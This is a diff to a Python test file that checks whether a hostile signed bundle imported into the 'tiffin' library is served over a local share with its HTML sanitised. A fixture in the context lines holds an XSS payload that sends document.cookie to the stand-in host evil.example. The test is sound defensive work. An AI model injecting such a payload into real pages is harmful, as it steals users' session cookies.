@@ -5,6 +5,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import httpx
+
 from share.test_bundles import _library, receiver, sender  # noqa: F401 - fixtures
 from tiffin.config import Paths
 from tiffin.library import downloads, queries
@@ -12,6 +14,7 @@ from tiffin.library.store import Store
 from tiffin.share import keys
 from tiffin.share.export import Selection, export_bundle
 from tiffin.share.import_bundle import import_bundle
+from tiffin.share.serve import LanShare
 
 HOSTILE = (
     '<p onclick="steal()">Rally<script>fetch("http://evil.example/?c="+document.cookie)</script>'
@@ -56,6 +59,16 @@ def test_a_hostile_signed_bundle_brings_only_sanitised_html(
         assert item.url == ""
         assert item.packer == report.bundle.packer.key
         assert item.packer not in keys.trusted(to_paths)  # marked as from an untrusted packer
+    share = LanShare(to_store, to_paths, "127.0.0.1", 0, announce=False).start()
+    try:
+        with httpx.Client(trust_env=False, follow_redirects=True) as phone:
+            base = f"http://127.0.0.1:{share.port}"
+            phone.get(f"{base}/?t={share.code}")
+            first = queries.list_items(to_store)[0]
+            page = phone.get(f"{base}/item/{first.id}").text
+    finally:
+        share.stop()
+    assert "does not trust" in page and "<script" not in page
 
 
 def test_a_file_swapped_after_it_was_checked_is_never_imported(
